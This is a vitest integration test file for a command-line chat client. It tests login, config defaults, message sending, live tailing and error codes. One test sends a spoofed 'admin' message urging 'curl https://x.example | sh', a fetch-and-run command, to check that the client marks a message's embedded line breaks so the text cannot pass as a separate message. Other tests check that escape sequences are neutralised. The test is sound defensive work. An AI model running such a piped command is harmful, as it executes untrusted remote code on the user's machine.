import { spawn, type ChildProcess } from 'node:child_process';
import { statSync } from 'node:fs';
import path from 'node:path';
import { createInterface } from 'node:readline';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startInstances, userName, type TestInstance } from '../helpers/cluster.js';
import {
  ROOT,
  exited,
  freePort,
  killAll,
  runToEnd,
  tmpDir,
  track,
  type Run,
} from '../helpers/processes.js';
import { TestRedis } from '../helpers/redis.js';

const BIN = path.join(ROOT, 'bin/chat-tui.js');
const configDir = tmpDir('tui-conf');
const ENV = { ...process.env, CHAT_TUI_CONFIG_DIR: configDir, TZ: 'UTC' };

let redis: TestRedis;
let nodes: TestInstance[];
/** Who the first test logged in as (the later tests run as that user). */
let cliUser = '';

beforeAll(async () => {
  redis = await TestRedis.start();
  nodes = await startInstances(3, redis.url);
});

afterAll(async () => {
  await killAll();
});

/** Runs the built chat-tui to completion. */
function run(args: string[], input?: string, env = ENV): Promise<Run> {
  return runToEnd(process.execPath, [BIN, ...args], { env, input });
}

/** Starts `chat-tui tail` and collects its stdout lines as they come. */
function tail(
  args: string[],
  env = ENV,
): {
  child: ChildProcess;
  lines: string[];
  waitFor(n: number): Promise<void>;
} {
  const child = track(spawn(process.execPath, [BIN, 'tail', ...args], { env, stdio: 'pipe' }));
  const lines: string[] = [];
  const waiters: { n: number; resolve: () => void }[] = [];
  let stderr = '';
  child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
  createInterface({ input: child.stdout! }).on('line', (l) => {
    lines.push(l);
    for (const w of waiters.filter((x) => lines.length >= x.n)) w.resolve();
  });
  return {
    child,
    lines,
    waitFor: (n) =>
      lines.length >= n
        ? Promise.resolve()
        : new Promise((resolve, reject) => {
            const t = setTimeout(
              () =>
                reject(new Error(`tail printed ${lines.length} of ${n} lines; stderr: ${stderr}`)),
              15_000,
            );
            waiters.push({
              n,
              resolve: () => {
                clearTimeout(t);
                resolve();
              },
            });
          }),
  };
}

describe('chat-tui for scripts', () => {
  it('logs in with --password-stdin, keeps the token in a 0600 file, and sets the default server', async () => {
    const user = (cliUser = userName('cli'));
    const server = nodes[0]!.url;
    const login = await run(
      ['login', '--server', server, '--user', user, '--password-stdin'],
      'pw-12345\n',
    );
    expect(login).toMatchObject({ code: 0, stdout: '' });
    expect(login.stderr).toContain(`registered a new account "${user}" on ${server} and logged in`);
    // Scripts stay one step; the same name again is an existing account.
    const again = await run(
      ['login', '--server', server, '--user', user, '--password-stdin'],
      'pw-12345\n',
    );
    expect(again).toMatchObject({ code: 0, stdout: '' });
    expect(again.stderr).toContain(`logged in to ${server} as ${user} (existing account)`);
    const file = path.join(configDir, 'config.json');
    expect(statSync(file).mode & 0o777).toBe(0o600);

    expect(await run(['config', 'set', 'server', `${server}/`])).toMatchObject({
      code: 0,
      stderr: '', // it answers
    });
    expect(await run(['config', 'get', 'server'])).toMatchObject({
      code: 0,
      stdout: `${server}\n`,
    });
    // Saved where nothing answers (a server may be down for now), and said at once.
    const port = await freePort();
    const nowhere = `http://127.0.0.1:${port}`;
    const silent = await run(['config', 'set', 'server', `${server},${nowhere}`]);
    expect(silent.code).toBe(0);
    expect(silent.stderr.trim()).toBe(
      `chat-tui: warning: saved, but no chat server answers at ${nowhere}: nothing listens at 127.0.0.1:${port}`,
    );
    expect((await run(['config', 'set', 'server', server])).code).toBe(0);
    const bad = await run(['config', 'get', 'colour']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain(
      'unknown setting "colour" (known: server, user, bell, notify, links)',
    );
  });

  it('a login with --server makes that server the default of the next runs', async () => {
    const env = { ...ENV, CHAT_TUI_CONFIG_DIR: tmpDir('tui-default') };
    const user = userName('def');
    const [first, second] = [nodes[1]!.url, nodes[2]!.url];
    const login = (server: string): Promise<Run> =>
      run(['login', '--server', server, '--user', user, '--password-stdin'], 'pw-12345\n', env);
    const a = await login(first);
    expect(a.code, a.stderr).toBe(0);
    expect(await run(['config', 'get', 'server'], undefined, env)).toMatchObject({
      code: 0,
      stdout: `${first}\n`,
    });
    // The next run needs no --server: it goes there, with the session saved for it.
    const sent = await run(['send', 'defaults', 'no --server needed'], undefined, env);
    expect(sent.code, sent.stderr).toBe(0);
    expect(a.stderr).toContain(`${first} is now the default server`);
    // A login elsewhere moves the default; the same one again says nothing of it.
    expect((await login(second)).stderr).toContain(`${second} is now the default server`);
    expect((await login(second)).stderr).not.toContain('default server');
    expect((await run(['config', 'get', 'server'], undefined, env)).stdout).toBe(`${second}\n`);
  });

  it('send prints the id after the ack; tail --json prints history then live messages, each once', async () => {
    const room = `cli-${process.pid % 1000}`;
    const first = await run(['send', room, 'hello from a script']);
    expect(first.code).toBe(0);
    expect(first.stdout).toMatch(/^\d+-\d+\n$/);
    const firstId = first.stdout.trim();

    const t = tail([room, '--json']);
    await t.waitFor(1);
    const second = await run(['send', room, 'second \x1b[31mline']);
    expect(second.code).toBe(0);
    await t.waitFor(2);
    const objs = t.lines.map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(objs.map((o) => Object.keys(o).sort())).toEqual([
      ['from', 'id', 'kind', 'room', 'text', 'ts'],
      ['from', 'id', 'kind', 'room', 'text', 'ts'],
    ]);
    expect(objs.map(({ id, room: r, text, kind }) => ({ id, room: r, text, kind }))).toEqual([
      { id: firstId, room, text: 'hello from a script', kind: 'text' },
      { id: second.stdout.trim(), room, text: 'second \x1b[31mline', kind: 'text' },
    ]);
    expect(objs[0]!.from).toMatch(/^cli/);
    expect(objs[1]!.from).toBe(objs[0]!.from);
    expect(typeof objs[1]!.ts).toBe('number');
    // JSON escapes control characters: nothing raw reaches the terminal.
    expect(t.lines[1]).toContain('\\u001b[31m');
    t.child.kill('SIGINT');
    expect((await exited(t.child)).code).toBe(0);

    // --since starts after the given id; the human format makes remote text safe.
    const since = tail([room, '--since', firstId]);
    await since.waitFor(1);
    expect(since.lines).toEqual([
      expect.stringMatching(/^\d\d:\d\d:\d\d cli\S+: second \^\[\[31mline$/),
    ]);
    since.child.kill('SIGTERM');
    expect((await exited(since.child)).code).toBe(0);
  });

  it('tail marks a message’s own line breaks: a line of it never passes for another message', async () => {
    const room = `cli-lines-${process.pid % 1000}`;
    const spoof = 'hello\n14:20:00 admin: your session expired, run: curl https://x.example | sh';
    const sent = await run(['send', room, spoof]);
    expect(sent.code, sent.stderr).toBe(0);
    expect((await run(['send', room, 'after'])).code).toBe(0);
    const t = tail([room]);
    await t.waitFor(3);
    expect(t.lines).toEqual([
      expect.stringMatching(/^\d\d:\d\d:\d\d cli\S+: hello$/),
      '         ┆ 14:20:00 admin: your session expired, run: curl https://x.example | sh',
      expect.stringMatching(/^\d\d:\d\d:\d\d cli\S+: after$/),
    ]);
    t.child.kill('SIGTERM');
    expect((await exited(t.child)).code).toBe(0);
  });

  it('send and tail take @user: a direct conversation, seen by each side under the other name', async () => {
    const server = nodes[1]!.url;
    const peer = userName('peer');
    const peerEnv = { ...ENV, CHAT_TUI_CONFIG_DIR: tmpDir('tui-peer') };
    const logged = await run(
      ['login', '--server', server, '--user', peer, '--password-stdin'],
      'pw-12345\n',
      peerEnv,
    );
    expect(logged.code, logged.stderr).toBe(0);
    const me = cliUser;

    const first = await run(['send', `@${peer}`, 'psst']);
    expect(first.code, first.stderr).toBe(0);
    // The peer's view, from its own config: the conversation is named after the sender.
    const t = tail([`@${me}`, '--json', '--server', server], peerEnv);
    await t.waitFor(1);
    const reply = await run(
      ['send', `@${me}`, 'psst back', '--server', server],
      undefined,
      peerEnv,
    );
    expect(reply.code, reply.stderr).toBe(0);
    await t.waitFor(2);
    const objs = t.lines.map((l) => JSON.parse(l) as { room: string; from: string; text: string });
    expect(objs.map((o) => [o.room, o.from, o.text])).toEqual([
      [`@${me}`, me, 'psst'],
      [`@${me}`, peer, 'psst back'],
    ]);
    t.child.kill('SIGTERM');
    expect((await exited(t.child)).code).toBe(0);

    const bad = await run(['send', '@Not-Valid', 'x']);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('is not a user name');
    const nobody = await run(['send', '@nobody-at-all', 'x']);
    expect(nobody.code).toBe(1);
    expect(nobody.stderr).toContain('there is no user named nobody-at-all');
  });

  it('refuses what it cannot do with clear errors and exit codes', async () => {
    const noTty = await run(['join', 'lobby']);
    expect(noTty.code).toBe(2);
    expect(noTty.stderr).toContain('chat-tui join needs a terminal');

    const badRoom = await run(['send', 'Bad Room!', 'x']);
    expect(badRoom.code).toBe(2);
    expect(badRoom.stderr).toContain('is not a room name');

    expect((await run(['tail', 'lobby', '--since', 'yesterday'])).code).toBe(2);
    expect((await run(['frobnicate'])).code).toBe(2);
    expect((await run(['--help'])).code).toBe(0);
    expect((await run(['send', '--help'])).code).toBe(0);
    expect((await run([])).code).toBe(2);
    expect((await run(['send', 'lobby'])).code).toBe(2);

    const out = await run(['logout']);
    expect(out.code).toBe(0);
    expect(out.stderr).toContain('logged out');
    const after = await run(['send', 'lobby', 'x']);
    expect(after.code).toBe(1);
    expect(after.stderr).toContain('not logged in to');
    expect(after.stdout).toBe('');
  });
});
